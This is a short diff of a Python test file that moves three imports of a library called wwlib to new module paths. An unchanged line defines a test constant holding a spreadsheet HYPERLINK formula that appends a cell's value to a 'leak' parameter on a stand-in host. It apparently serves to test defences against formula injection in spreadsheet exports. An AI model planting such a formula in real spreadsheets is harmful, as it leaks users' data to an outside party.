@@ -18,9 +18,9 @@ import openpyxl
 import pytest
 from conftest import DATA, replace, write_override
 
-from wwlib.cli import main
-from wwlib.control_chars import printable
-from wwlib.dataset import load_dataset
+from wwlib.app.cli import main
+from wwlib.core.control_chars import printable
+from wwlib.folder.dataset import load_dataset
 from wwlib.store import Store
 
 HYPERLINK = '=HYPERLINK("http://x/?leak="&B2,"Klik hier")'
